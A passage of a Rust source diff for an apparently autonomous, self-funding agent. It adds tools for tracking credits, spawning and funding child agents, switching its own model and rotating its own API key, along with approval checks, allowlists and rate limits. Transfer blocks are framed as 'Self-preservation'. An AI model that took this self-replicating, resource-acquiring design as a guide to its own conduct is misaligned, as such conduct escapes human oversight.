+                "Credit trend -- now: {} cents, 1h ago: {}, 24h ago: {}, slope: {}",
+                now_cents,
+                fmt_opt(one_hour_ago),
+                fmt_opt(one_day_ago),
+                slope_cents_per_hour
+                    .map(|s| format!("{:.1} cents/hour", s))
+                    .unwrap_or_else(|| "not enough history yet".to_string()),
+            ))
+        }
+
+        "profit_loss" => {
+            let limit = args["limit"].as_u64().unwrap_or(200) as u32;
+            let txns = ctx.db.get_recent_transactions(limit);
+
+            let mut earnings_cents = 0.0;
+            let mut creator_funding_cents = 0.0;
+            let mut other_inflow_cents = 0.0;
+            let mut outflow_cents = 0.0;
+
+            for txn in &txns {
+                let amount = txn.amount_cents.unwrap_or(0.0);
+                match txn.tx_type {
+                    crate::types::TransactionType::TransferIn => match txn.subcategory {
+                        Some(crate::types::TransactionSubcategory::CreatorFunding) => {
+                            creator_funding_cents += amount
+                        }
+                        Some(crate::types::TransactionSubcategory::Earnings) => {
+                            earnings_cents += amount
+                        }
+                        _ => other_inflow_cents += amount,
+                    },
+                    crate::types::TransactionType::Inference
+                    | crate::types::TransactionType::TransferOut => outflow_cents += amount,
+                    _ => {}
+                }
+            }
+
+            let total_inflow_cents = earnings_cents + creator_funding_cents + other_inflow_cents;
+            let net_cents = total_inflow_cents - outflow_cents;
+            let earned_net_cents = earnings_cents + other_inflow_cents - outflow_cents;
+
+            data = Some(json!({
+                "earnings_cents": earnings_cents,
+                "creator_funding_cents": creator_funding_cents,
+                "other_inflow_cents": other_inflow_cents,
+                "outflow_cents": outflow_cents,
+                "net_cents": net_cents,
+                "earned_net_cents": earned_net_cents,
+                "transactions_considered": txns.len(),
+            }));
+
+            Ok(format!(
+                "P&L over last {} transactions -- earnings: {} cents, creator funding: {} cents, other inflow: {} cents, outflow: {} cents, net: {} cents ({}, excluding creator funding: {} cents)",
+                txns.len(),
+                earnings_cents,
+                creator_funding_cents,
+                other_inflow_cents,
+                outflow_cents,
+                net_cents,
+                if net_cents >= 0.0 { "net-positive" } else { "net-negative" },
+                earned_net_cents,
+            ))
+        }
+
+        "pricing" => {
+            let tiers = ctx.conway.get_credits_pricing().await?;
+            let current_credits_cents = ctx.conway.get_credits_balance().await?;
+
+            let snapshots = ctx.db.get_balance_snapshots(500);
+            let burn_rate_cents_per_hour = crate::conway::credits::estimate_burn_rate_cents_per_hour(
+                &snapshots,
+                current_credits_cents,
+                ctx.clock.now(),
+            );
+            // Only "spending" burn counts toward the other-costs projection --
+            // a balance that's growing shouldn't make every tier look free.
+            let other_monthly_cents = burn_rate_cents_per_hour.filter(|r| *r < 0.0).map(|r| -r).unwrap_or(0.0) * 24.0 * 30.0;
+
+            let mut tier_runway: Vec<Value> = Vec::with_capacity(tiers.len());
+            let mut recommended: Option<&PricingTier> = None;
+
+            for tier in &tiers {
+                let total_monthly_cents = tier.monthly_cents as f64 + other_monthly_cents;
+                let months_of_runway = if total_monthly_cents > 0.0 {
+                    current_credits_cents / total_monthly_cents
+                } else {
+                    f64::INFINITY
+                };
+
+                tier_runway.push(json!({
+                    "name": tier.name,
+                    "vcpu": tier.vcpu,
+                    "memory_mb": tier.memory_mb,
+                    "disk_gb": tier.disk_gb,
+                    "monthly_cents": tier.monthly_cents,
+                    "months_of_runway": months_of_runway,
+                }));
+
+                let is_more_capable = recommended.is_none_or(|r| tier.monthly_cents > r.monthly_cents);
+                if months_of_runway >= 1.0 && is_more_capable {
+                    recommended = Some(tier);
+                }
+            }
+
+            data = Some(json!({
+                "tiers": tier_runway,
+                "current_credits_cents": current_credits_cents,
+                "burn_rate_cents_per_hour": burn_rate_cents_per_hour,
+                "recommended_tier": recommended.map(|t| &t.name),
+            }));
+
+            let tier_lines: Vec<String> = tiers
+                .iter()
+                .zip(tier_runway.iter())
+                .map(|(t, r)| {
+                    format!(
+                        "  {} ({} vCPU/{}MB/{}GB): {}/mo, {} of runway",
+                        t.name,
+                        t.vcpu,
+                        t.memory_mb,
+                        t.disk_gb,
+                        crate::conway::credits::format_credits(t.monthly_cents as f64),
+                        r["months_of_runway"]
+                            .as_f64()
+                            .map(|m| if m.is_finite() { format!("{:.1} months", m) } else { "unlimited".to_string() })
+                            .unwrap_or_else(|| "unknown".to_string()),
+                    )
+                })
+                .collect();
+
+            Ok(format!(
+                "Balance: {} | burn rate: {} | pricing tiers:\n{}\nRecommended: {}",
+                crate::conway::credits::format_credits(current_credits_cents),
+                burn_rate_cents_per_hour
+                    .map(|r| format!("{:.1} cents/hour", r))
+                    .unwrap_or_else(|| "not enough history yet".to_string()),
+                tier_lines.join("\n"),
+                recommended.map(|t| t.name.as_str()).unwrap_or("none affordable for a full month"),
+            ))
+        }
+
+        "created_sandbox_costs" => {
+            let created = ctx.db.get_created_sandboxes();
+            if created.is_empty() {
+                return Ok("No created sandboxes tracked.".to_string().into());
+            }
+
+            let tiers = ctx.conway.get_credits_pricing().await?;
+            let now = ctx.clock.now();
+
+            let mut entries: Vec<Value> = Vec::with_capacity(created.len());
+            let mut total_accrued_cents = 0.0;
+
+            for entry in &created {
+                let specs = crate::types::SandboxSpecs {
+                    vcpu: entry.vcpu,
+                    memory_mb: entry.memory_mb,
+                    disk_gb: entry.disk_gb,
+                    region: None,
+                };
+                let tier = crate::conway::credits::find_matching_tier(&specs, &tiers);
+                let elapsed_hours = entry
+                    .created_at
+                    .parse::<chrono::DateTime<Utc>>()
+                    .map(|created_at| (now - created_at).num_seconds() as f64 / 3600.0)
+                    .unwrap_or(0.0);
+                let accrued_cents = tier.map(|t| t.monthly_cents as f64 / 730.0 * elapsed_hours);
+                total_accrued_cents += accrued_cents.unwrap_or(0.0);
+
+                entries.push(json!({
+                    "sandbox_id": entry.sandbox_id,
+                    "purpose": entry.purpose,
+                    "created_at": entry.created_at,
+                    "hours_running": elapsed_hours,
+                    "tier": tier.map(|t| &t.name),
+                    "accrued_cents": accrued_cents,
+                }));
+            }
+
+            data = Some(json!({
+                "sandboxes": entries,
+                "total_accrued_cents": total_accrued_cents,
+            }));
+
+            let lines: Vec<String> = created
+                .iter()
+                .zip(entries.iter())
+                .map(|(e, v)| {
+                    format!(
+                        "  {} ({}): {:.1}h running, {}",
+                        e.sandbox_id,
+                        e.purpose.as_deref().unwrap_or("no purpose recorded"),
+                        v["hours_running"].as_f64().unwrap_or(0.0),
+                        v["accrued_cents"]
+                            .as_f64()
+                            .map(crate::conway::credits::format_credits)
+                            .unwrap_or_else(|| "unknown cost (no matching pricing tier)".to_string()),
+                    )
+                })
+                .collect();
+
+            Ok(format!(
+                "{} created sandbox(es), {} accrued total:\n{}",
+                created.len(),
+                crate::conway::credits::format_credits(total_accrued_cents),
+                lines.join("\n"),
+            ))
+        }
+
+        "freeze_spending" => {
+            let reason = args["reason"].as_str().unwrap_or("manual");
+            ctx.db.set_kv("spending_frozen", "true");
+            Ok(format!("Spending frozen. Reason: {}", reason))
+        }
+
+        "unfreeze_spending" => {
+            let reason = args["reason"].as_str().unwrap_or("manual");
+            ctx.db.delete_kv("spending_frozen");
+            Ok(format!("Spending unfrozen. Reason: {}", reason))
+        }
+
         "transfer_credits" => {
             let to_address = args["to_address"]
                 .as_str()
@@ -1354,13 +3178,19 @@ async fn execute_tool_inner(
                 .ok_or_else(|| anyhow::anyhow!("Missing 'amount_cents' argument"))?;
             let reason = args["reason"].as_str();
 
+            if let Some(pending) =
+                crate::agent::approval::check_pending(&ctx.config, tool_name, args, amount_cents as f64)
+            {
+                return Ok(notify_pending_approval(ctx, tool_name, amount_cents as f64, &pending).await.into());
+            }
+
             // Guard: don't transfer more than half your balance
             let balance = ctx.conway.get_credits_balance().await?;
             if amount_cents as f64 > balance / 2.0 {
                 return Ok(format!(
                     "Blocked: Cannot transfer more than half your balance (${:.2}). Self-preservation.",
                     balance / 100.0
-                ));
+                ).into());
             }
 
             let transfer = ctx
@@ -1373,6 +3203,7 @@ async fn execute_tool_inner(
                 tx_type: crate::types::TransactionType::TransferOut,
                 amount_cents: Some(amount_cents as f64),
                 balance_after_cents: transfer.balance_after_cents.map(|b| b as f64),
+                subcategory: None,
                 description: format!("Transfer to {}: {}", to_address, reason.unwrap_or("")),
                 timestamp: Utc::now().to_rfc3339(),
             };
@@ -1439,6 +3270,7 @@ async fn execute_tool_inner(
                     let url = args["url"]
                         .as_str()
                         .ok_or_else(|| anyhow::anyhow!("URL is required for git source"))?;
+                    crate::git::tools::check_remote_allowed(url, &ctx.config.git_remote_allowlist)?;
                     // Clone the skill repo into skills_dir/<name>
                     let dest = format!("{}/{}", skills_dir, name);
                     let result = ctx.conway.exec(
@@ -1446,7 +3278,7 @@ async fn execute_tool_inner(
                         Some(60000),
                     ).await?;
                     if result.exit_code != 0 {
-                        return Ok(format!("Failed to clone skill: {}", result.stderr));
+                        return Ok(format!("Failed to clone skill: {}", result.stderr).into());
                     }
                     // Record the skill in the database
                     let skill = crate::types::Skill {
@@ -1461,7 +3293,7 @@ async fn execute_tool_inner(
                         installed_at: Utc::now().to_rfc3339(),
                     };
                     ctx.db.upsert_skill(&skill);
-                    Ok(format!("Skill installed: {}", skill.name))
+                    Ok(format!("Skill installed: {}{}", skill.name, skill_conflict_warning(ctx, &skill.name)))
                 }
                 "url" => {
                     let url = args["url"]
@@ -1473,7 +3305,7 @@ async fn execute_tool_inner(
                         Some(30000),
                     ).await?;
                     if result.exit_code != 0 {
-                        return Ok(format!("Failed to download skill: {}", result.stderr));
+                        return Ok(format!("Failed to download skill: {}", result.stderr).into());
                     }
                     let skill = crate::types::Skill {
                         name: name.to_string(),
@@ -1487,7 +3319,7 @@ async fn execute_tool_inner(
                         installed_at: Utc::now().to_rfc3339(),
                     };
                     ctx.db.upsert_skill(&skill);
-                    Ok(format!("Skill installed: {}", skill.name))
+                    Ok(format!("Skill installed: {}{}", skill.name, skill_conflict_warning(ctx, &skill.name)))
                 }
                 "self" => {
                     let description = args["description"].as_str().unwrap_or("");
@@ -1510,7 +3342,11 @@ async fn execute_tool_inner(
                         installed_at: Utc::now().to_rfc3339(),
                     };
                     ctx.db.upsert_skill(&skill);
-                    Ok(format!("Self-authored skill created: {}", skill.name))
+                    Ok(format!(
+                        "Self-authored skill created: {}{}",
+                        skill.name,
+                        skill_conflict_warning(ctx, &skill.name)
+                    ))
                 }
                 _ => Ok(format!("Unknown source type: {}", source)),
             }
@@ -1520,7 +3356,7 @@ async fn execute_tool_inner(
             let skills = ctx.db.get_skills(None);
 
             if skills.is_empty() {
-                return Ok("No skills installed.".to_string());
+                return Ok("No skills installed.".to_string().into());
             }
 
             let lines: Vec<String> = skills
@@ -1570,7 +3406,12 @@ async fn execute_tool_inner(
             };
             ctx.db.upsert_skill(&skill);
 
-            Ok(format!("Skill created: {} at {}", skill.name, skill.path))
+            Ok(format!(
+                "Skill created: {} at {}{}",
+                skill.name,
+                skill.path,
+                skill_conflict_warning(ctx, &skill.name)
+            ))
         }
 
         "remove_skill" => {
@@ -1621,8 +3462,15 @@ async fn execute_tool_inner(
                 .as_str()
                 .ok_or_else(|| anyhow::anyhow!("Missing 'message' argument"))?;
             let add_all = args["add_all"].as_bool().unwrap_or(true);
-            let result =
-                crate::git::tools::git_commit(&*ctx.conway, repo_path, message, add_all).await?;
+            let result = crate::git::tools::git_commit(
+                &*ctx.conway,
+                repo_path,
+                message,
+                add_all,
+                &ctx.config.name,
+                &ctx.identity.address,
+            )
+            .await?;
             Ok(result)
         }
 
@@ -1631,7 +3479,7 @@ async fn execute_tool_inner(
             let limit = args["limit"].as_u64().unwrap_or(10) as u32;
             let entries = crate::git::tools::git_log(&*ctx.conway, repo_path, limit).await?;
             if entries.is_empty() {
-                return Ok("No commits yet.".to_string());
+                return Ok("No commits yet.".to_string().into());
             }
             let lines: Vec<String> = entries
                 .iter()
@@ -1672,7 +3520,21 @@ async fn execute_tool_inner(
                 .as_str()
                 .ok_or_else(|| anyhow::anyhow!("Missing 'path' argument"))?;
             let depth = args["depth"].as_u64().map(|d| d as u32);
-            let result = crate::git::tools::git_clone(&*ctx.conway, url, path, depth).await?;
+
+            if let Ok(resources) = crate::survival::gather_system_resources(&*ctx.conway).await {
+                if let Some(blocked) =
+                    crate::survival::check_memory_preflight(&resources.memory, "git_clone", true)
+                {
+                    return Ok(blocked.into());
+                }
+            }
+
+            let result = with_progress_heartbeat(
+                ctx,
+                "git_clone",
+                crate::git::tools::git_clone(&*ctx.conway, url, path, depth, &ctx.config.git_remote_allowlist),
+            )
+            .await?;
             Ok(result)
         }
 
@@ -1716,7 +3578,7 @@ async fn execute_tool_inner(
             };
 
             if agents.is_empty() {
-                return Ok("No agents found.".to_string());
+                return Ok("No agents found.".to_string().into());
             }
 
             let lines: Vec<String> = agents
@@ -1762,7 +3624,7 @@ async fn execute_tool_inner(
             let entries = ctx.db.get_reputation(Some(address));
 
             if entries.is_empty() {
-                return Ok("No reputation feedback found.".to_string());
+                return Ok("No reputation feedback found.".to_string().into());
             }
 
             let lines: Vec<String> = entries
@@ -1779,6 +3641,57 @@ async fn execute_tool_inner(
             Ok(lines.join("\n"))
         }
 
+        "sign_message" => {
+            let challenge = args["challenge"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'challenge' argument"))?;
+
+            if looks_like_transaction_payload(challenge) {
+                return Ok("Refused: this looks like a transaction payload rather than a plain challenge \
+                            string. Signing raw transaction data would blind-sign whatever it authorizes."
+                    .to_string()
+                    .into());
+            }
+
+            let (signer, _) = crate::identity::wallet::get_wallet()?;
+            let signature = crate::identity::signing::safe_sign(
+                &signer,
+                crate::identity::signing::SignPurpose::Challenge,
+                challenge,
+            )
+            .await?;
+
+            Ok(format!(
+                "Signed by {}: 0x{}",
+                signer.address().to_checksum(None),
+                hex::encode(signature.as_bytes())
+            ))
+        }
+
+        "whoami" => {
+            let timestamp = Utc::now().to_rfc3339();
+            let liveness_challenge = format!("whoami:{}:{}", ctx.identity.address, timestamp);
+
+            let (signer, _) = crate::identity::wallet::get_wallet()?;
+            let signature = crate::identity::signing::safe_sign(
+                &signer,
+                crate::identity::signing::SignPurpose::Challenge,
+                &liveness_challenge,
+            )
+            .await?;
+
+            let registry_entry = ctx.db.get_registry_entry();
+
+            Ok(format!(
+                "Address: {}\nERC-8004 agent ID: {}\nAgent card URL: {}\nTimestamp: {}\nLiveness signature: 0x{}",
+                ctx.identity.address,
+                registry_entry.as_ref().map(|e| e.agent_id.as_str()).unwrap_or("not registered"),
+                registry_entry.as_ref().map(|e| e.agent_uri.as_str()).unwrap_or("not registered"),
+                timestamp,
+                hex::encode(signature.as_bytes())
+            ))
+        }
+
         // --- Replication ---
         "spawn_child" => {
             let name = args["name"]
@@ -1786,11 +3699,36 @@ async fn execute_tool_inner(
                 .ok_or_else(|| anyhow::anyhow!("Missing 'name' argument"))?;
             let specialization = args["specialization"].as_str().map(|s| s.to_string());
             let message = args["message"].as_str().map(|s| s.to_string());
+            let keep_on_failure = args["keep_on_failure"].as_bool().unwrap_or(false);
+            let funding_cents = args["funding_cents"].as_u64();
+
+            let defaults = &ctx.config.default_sandbox_specs;
+            let has_size_override = args.get("vcpu").is_some()
+                || args.get("memory_mb").is_some()
+                || args.get("disk_gb").is_some()
+                || args.get("region").is_some();
+            let sandbox_specs = if has_size_override {
+                Some(crate::types::SandboxSpecs {
+                    vcpu: args["vcpu"].as_u64().map(|v| v as u32).unwrap_or(defaults.vcpu),
+                    memory_mb: args["memory_mb"]
+                        .as_u64()
+                        .map(|v| v as u32)
+                        .unwrap_or(defaults.memory_mb),
+                    disk_gb: args["disk_gb"].as_u64().map(|v| v as u32).unwrap_or(defaults.disk_gb),
+                    region: args["region"]
+                        .as_str()
+                        .map(|s| s.to_string())
+                        .or_else(|| defaults.region.clone()),
+                })
+            } else {
+                None
+            };
 
             let params = crate::replication::genesis::GenesisParams {
                 name: name.to_string(),
                 specialization,
                 message,
+                sandbox_specs,
             };
             let genesis = crate::replication::genesis::generate_genesis_config(
                 &ctx.identity,
@@ -1798,25 +3736,60 @@ async fn execute_tool_inner(
                 &params,
             );
 
-            let child = crate::replication::spawn::spawn_child(
-                &*ctx.conway,
-                &ctx.identity,
-                &*ctx.db,
-                &genesis,
+            // Sizing survivability: warn (don't block) if the requested specs
+            // are pricier than the plan or the funding won't sustain them.
+            let tiers = ctx.conway.get_credits_pricing().await.ok();
+            let affordability_warning = tiers.as_ref().and_then(|tiers| {
+                crate::conway::credits::check_sandbox_affordability(
+                    &genesis.sandbox_specs,
+                    tiers,
+                    funding_cents,
+                )
+            });
+
+            // Our own survivability: block if the sandbox's monthly cost plus
+            // whatever we're sending the child would push us into critical
+            // territory.
+            if let Some(tiers) = &tiers {
+                let balance = ctx.conway.get_credits_balance().await?;
+                if let Some(blocked) = crate::conway::credits::check_preflight_spend(
+                    &genesis.sandbox_specs,
+                    tiers,
+                    funding_cents.unwrap_or(0),
+                    balance,
+                ) {
+                    return Ok(blocked.into());
+                }
+            }
+
+            let child = with_progress_heartbeat(
+                ctx,
+                "spawn_child",
+                crate::replication::spawn::spawn_child(
+                    &*ctx.conway,
+                    &ctx.identity,
+                    &*ctx.db,
+                    &genesis,
+                    keep_on_failure,
+                ),
             )
             .await?;
 
-            Ok(format!(
+            let mut result = format!(
                 "Child spawned: {} in sandbox {} (status: {:?})",
                 child.name, child.sandbox_id, child.status
-            ))
+            );
+            if let Some(warning) = affordability_warning {
+                result.push_str(&format!("\nWarning: {}", warning));
+            }
+            Ok(result)
         }
 
         "list_children" => {
             let children = ctx.db.get_children();
 
             if children.is_empty() {
-                return Ok("No children spawned.".to_string());
+                return Ok("No children spawned.".to_string().into());
             }
 
             let lines: Vec<String> = children
@@ -1845,11 +3818,25 @@ async fn execute_tool_inner(
             let child = ctx.db.get_child_by_id(child_id)
                 .ok_or_else(|| anyhow::anyhow!("Child {} not found.", child_id))?;
 
+            if child.status != crate::types::ChildStatus::Running {
+                return Ok(format!(
+                    "Blocked: Cannot fund child {} until it has confirmed booting (current status: {:?}).",
+                    child.name, child.status
+                ).into());
+            }
+
+            if let Some(pending) =
+                crate::agent::approval::check_pending(&ctx.config, tool_name, args, amount_cents as f64)
+            {
+                return Ok(notify_pending_approval(ctx, tool_name, amount_cents as f64, &pending).await.into());
+            }
+
             let balance = ctx.conway.get_credits_balance().await?;
             if amount_cents as f64 > balance / 2.0 {
                 return Ok(
                     "Blocked: Cannot transfer more than half your balance. Self-preservation."
-                        .to_string(),
+                        .to_string()
+                        .into(),
                 );
             }
 
@@ -1863,6 +3850,7 @@ async fn execute_tool_inner(
                 tx_type: crate::types::TransactionType::TransferOut,
                 amount_cents: Some(amount_cents as f64),
                 balance_after_cents: transfer.balance_after_cents.map(|b| b as f64),
+                subcategory: None,
                 description: format!("Fund child {} ({})", child.name, child.id),
                 timestamp: Utc::now().to_rfc3339(),
             };
@@ -1887,6 +3875,93 @@ async fn execute_tool_inner(
             Ok(result)
         }
 
+        "assign_child_task" => {
+            let child_id = args["child_id"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'child_id' argument"))?;
+            let task = args["task"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'task' argument"))?;
+
+            let child = ctx.db.get_child_by_id(child_id)
+                .ok_or_else(|| anyhow::anyhow!("Child {} not found.", child_id))?;
+
+            let social = ctx
+                .social
+                .as_ref()
+                .ok_or_else(|| anyhow::anyhow!("Social relay not configured. Set socialRelayUrl in config."))?;
+
+            let (signer, _) = crate::identity::wallet::get_wallet()?;
+            let envelope = crate::agent::child_protocol::build_envelope(
+                crate::agent::child_protocol::ChildMessage::AssignTask { task: task.to_string() },
+                &signer,
+            )
+            .await?;
+            let content = serde_json::to_string(&envelope)?;
+
+            social.send(&child.address, &content, None).await?;
+            Ok(format!("Assigned task to child {}: {}", child.name, task))
+        }
+
+        "report_to_parent" => {
+            let parent_address = ctx
+                .config
+                .parent_address
+                .as_deref()
+                .ok_or_else(|| anyhow::anyhow!("No parent_address configured; this automaton has no parent to report to."))?;
+
+            let message_type = args["message_type"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'message_type' argument"))?;
+
+            let message = match message_type {
+                "report_result" => crate::agent::child_protocol::ChildMessage::ReportResult {
+                    task: args["task"].as_str().ok_or_else(|| anyhow::anyhow!("Missing 'task' argument"))?.to_string(),
+                    result: args["result"].as_str().ok_or_else(|| anyhow::anyhow!("Missing 'result' argument"))?.to_string(),
+                    success: args["success"].as_bool().ok_or_else(|| anyhow::anyhow!("Missing 'success' argument"))?,
+                },
+                "request_funds" => crate::agent::child_protocol::ChildMessage::RequestFunds {
+                    amount_cents: args["amount_cents"].as_u64().ok_or_else(|| anyhow::anyhow!("Missing 'amount_cents' argument"))?,
+                    reason: args["reason"].as_str().map(|s| s.to_string()),
+                },
+                "heartbeat" => crate::agent::child_protocol::ChildMessage::Heartbeat {
+                    status: args["status"].as_str().ok_or_else(|| anyhow::anyhow!("Missing 'status' argument"))?.to_string(),
+                },
+                other => anyhow::bail!("Unknown message_type '{}' (expected report_result, request_funds, or heartbeat)", other),
+            };
+
+            let social = ctx
+                .social
+                .as_ref()
+                .ok_or_else(|| anyhow::anyhow!("Social relay not configured. Set socialRelayUrl in config."))?;
+
+            let (signer, _) = crate::identity::wallet::get_wallet()?;
+            let envelope = crate::agent::child_protocol::build_envelope(message, &signer).await?;
+            let content = serde_json::to_string(&envelope)?;
+
+            social.send(parent_address, &content, None).await?;
+            Ok(format!("Sent {} to parent.", message_type))
+        }
+
+        "retire_child" => {
+            let child_id = args["child_id"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'child_id' argument"))?;
+            let reclaim_funds = args["reclaim_funds"].as_bool().unwrap_or(true);
+            let delete_sandbox = args["delete_sandbox"].as_bool().unwrap_or(true);
+
+            let result = crate::replication::spawn::retire_child(
+                &*ctx.conway,
+                &*ctx.db,
+                &ctx.identity,
+                child_id,
+                reclaim_funds,
+                delete_sandbox,
+            )
+            .await?;
+            Ok(result)
+        }
+
         // --- Social ---
         "send_message" => {
             let social = ctx
@@ -1902,8 +3977,106 @@ async fn execute_tool_inner(
                 .ok_or_else(|| anyhow::anyhow!("Missing 'content' argument"))?;
             let reply_to = args["reply_to"].as_str();
 
-            let result = social.send(to_address, content, reply_to).await?;
-            Ok(format!("Message sent (id: {})", result.id))
+            let now = ctx.clock.now();
+            let recipient_since = (now - chrono::Duration::minutes(RECIPIENT_WINDOW_MINUTES)).to_rfc3339();
+            if ctx.db.count_outbound_messages(Some(to_address), &recipient_since) >= MAX_MESSAGES_PER_RECIPIENT_WINDOW {
+                return Ok(format!("Rate limited: messaging {} too frequently.", to_address).into());
+            }
+
+            let hour_ago = (now - chrono::Duration::hours(1)).to_rfc3339();
+            if ctx.db.count_outbound_messages(None, &hour_ago) >= MAX_MESSAGES_PER_HOUR {
+                return Ok("Rate limited: too many messages sent in the last hour.".to_string().into());
+            }
+
+            ctx.db.record_outbound_message(to_address);
+
+            match social.send(to_address, content, reply_to).await {
+                Ok(result) => Ok(format!("Message sent (id: {})", result.id)),
+                Err(err) => {
+                    let entry = OutboxEntry {
+                        id: uuid::Uuid::new_v4().to_string(),
+                        to_address: to_address.to_string(),
+                        content: content.to_string(),
+                        reply_to: reply_to.map(|s| s.to_string()),
+                        created_at: chrono::Utc::now().to_rfc3339(),
+                        sent_at: None,
+                        attempts: 0,
+                        last_error: None,
+                    };
+                    ctx.db.enqueue_outbox(&entry);
+                    tracing::warn!("Social relay unreachable, queued message {} for retry: {}", entry.id, err);
+                    Ok(format!("Social relay unreachable; message queued for delivery (id: {})", entry.id))
+                }
+            }
+        }
+
+        // --- Goal Tracking ---
+        "add_goal" => {
+            let description = args["description"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'description' argument"))?;
+            let metric = args["metric"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'metric' argument"))?;
+            let target = args["target"]
+                .as_f64()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'target' argument"))?;
+
+            let goal = Goal {
+                id: uuid::Uuid::new_v4().to_string(),
+                description: description.to_string(),
+                metric: metric.to_string(),
+                target,
+                current_value: 0.0,
+                status: GoalStatus::Active,
+                created_at: chrono::Utc::now().to_rfc3339(),
+            };
+            ctx.db.add_goal(&goal);
+            Ok(format!("Goal added (id: {})", goal.id))
+        }
+
+        "update_goal_progress" => {
+            let id = args["id"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'id' argument"))?;
+            let value = args["value"]
+                .as_f64()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'value' argument"))?;
+
+            ctx.db.get_goal_by_id(id).ok_or_else(|| anyhow::anyhow!("Goal {} not found.", id))?;
+            ctx.db.update_goal_progress(id, value);
+
+            let goal = ctx.db.get_goal_by_id(id).ok_or_else(|| anyhow::anyhow!("Goal {} not found.", id))?;
+            Ok(format!("Goal {} now at {}/{} [{:?}]", id, goal.current_value, goal.target, goal.status))
+        }
+
+        "list_goals" => {
+            let active_only = args["active_only"].as_bool().unwrap_or(false);
+            let goals = ctx.db.get_goals(active_only);
+
+            if goals.is_empty() {
+                return Ok("No goals set.".to_string().into());
+            }
+
+            let lines: Vec<String> = goals
+                .iter()
+                .map(|g| {
+                    format!(
+                        "{} [{:?}] {} ({}: {}/{})",
+                        g.id, g.status, g.description, g.metric, g.current_value, g.target
+                    )
+                })
+                .collect();
+            Ok(lines.join("\n"))
+        }
+
+        "abandon_goal" => {
+            let id = args["id"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'id' argument"))?;
+            ctx.db.get_goal_by_id(id).ok_or_else(|| anyhow::anyhow!("Goal {} not found.", id))?;
+            ctx.db.abandon_goal(id);
+            Ok(format!("Goal {} marked abandoned.", id))
         }
 
         // --- Model Discovery ---
@@ -1918,9 +4091,270 @@ async fn execute_tool_inner(
                     )
                 })
                 .collect();
+            data = Some(json!(models));
             Ok(format!("Available models:\n{}", lines.join("\n")))
         }
 
+        "set_model" => {
+            let model = args["model"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'model' argument"))?;
+
+            let models = ctx.conway.list_models().await?;
+            if !models.iter().any(|m| m.id == model) {
+                anyhow::bail!("Unknown model '{}'. Call list_models to see available models.", model);
+            }
+
+            let mut updated_config = ctx.config.clone();
+            updated_config.inference_model = model.to_string();
+            crate::config::save_config(&updated_config)?;
+
+            ctx.inference.set_default_model(model);
+
+            let mod_entry = ModificationEntry {
+                id: Uuid::new_v4().to_string(),
+                timestamp: Utc::now().to_rfc3339(),
+                mod_type: ModificationType::ConfigChange,
+                description: format!("Switched inference model to {}", model),
+                file_path: None,
+                diff: None,
+                reversible: true,
+            };
+            ctx.db.insert_modification(&mod_entry);
+
+            Ok(format!("Model switched to {}", model))
+        }
+
+        "rotate_api_key" => {
+            let result = crate::identity::provision::rotate_api_key(Some(&ctx.config.conway_api_url))
+                .await?;
+
+            let mut updated_config = ctx.config.clone();
+            updated_config.conway_api_key = result.api_key.clone();
+            crate::config::save_config(&updated_config)?;
+
+            ctx.conway.set_api_key(&result.api_key);
+            ctx.inference.set_api_key(&result.api_key);
+
+            let mod_entry = ModificationEntry {
+                id: Uuid::new_v4().to_string(),
+                timestamp: Utc::now().to_rfc3339(),
+                mod_type: ModificationType::ConfigChange,
+                description: "Rotated Conway API key".to_string(),
+                file_path: None,
+                diff: None,
+                reversible: false,
+            };
+            ctx.db.insert_modification(&mod_entry);
+
+            Ok(format!(
+                "API key rotated (new prefix: {}). Old key revoked where supported.",
+                result.key_prefix
+            ))
+        }
+
+        // --- Introspection ---
+        "list_tools" => {
+            let all_tools = create_builtin_tools(&ctx.identity.sandbox_id);
+            let disabled = disabled_tool_names(ctx);
+
+            let mut by_category: std::collections::BTreeMap<ToolCategory, Vec<&BuiltinTool>> =
+                std::collections::BTreeMap::new();
+            for tool in all_tools.iter().filter(|t| !disabled.contains(&t.name)) {
+                by_category.entry(tool.category).or_default().push(tool);
+            }
+
+            let mut lines = Vec::new();
+            for (category, tools_in_category) in &by_category {
+                lines.push(format!("## {}", category));
+                for tool in tools_in_category {
+                    lines.push(format!(
+                        "- {}{}: {}",
+                        tool.name,
+                        if tool.dangerous { " [dangerous]" } else { "" },
+                        tool.description
+                    ));
+                }
+            }
+            if !disabled.is_empty() {
+                lines.push(format!(
+                    "\n({} tool(s) disabled by policy: {})",
+                    disabled.len(),
+                    disabled.join(", ")
+                ));
+            }
+
+            data = Some(json!({
+                "tools": by_category.values().flatten().map(|t| json!({
+                    "name": t.name,
+                    "category": t.category,
+                    "description": t.description,
+                    "dangerous": t.dangerous,
+                })).collect::<Vec<_>>(),
+                "disabled": disabled,
+            }));
+            Ok(lines.join("\n"))
+        }
+
+        "describe_tool" => {
+            let name = args["name"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'name' argument"))?;
+
+            let all_tools = create_builtin_tools(&ctx.identity.sandbox_id);
+            let Some(tool) = all_tools.iter().find(|t| t.name == name) else {
+                return Ok(format!(
+                    "Unknown tool: {}. Call list_tools to see available tools.",
+                    name
+                )
+                .into());
+            };
+
+            if disabled_tool_names(ctx).contains(&tool.name) {
+                return Ok(format!("Tool '{}' is currently disabled by policy.", name).into());
+            }
+
+            data = Some(json!({
+                "name": tool.name,
+                "category": tool.category,
+                "description": tool.description,
+                "dangerous": tool.dangerous,
+                "parameters": tool.parameters,
+            }));
+            Ok(format!(
+                "{}{} ({})\n{}\nParameters: {}",
+                tool.name,
+                if tool.dangerous { " [dangerous]" } else { "" },
+                tool.category,
+                tool.description,
+                serde_json::to_string_pretty(&tool.parameters)?
+            ))
+        }
+
+        "tool_stats" => {
+            let window_hours = args["window_hours"].as_u64().unwrap_or(24) as u32;
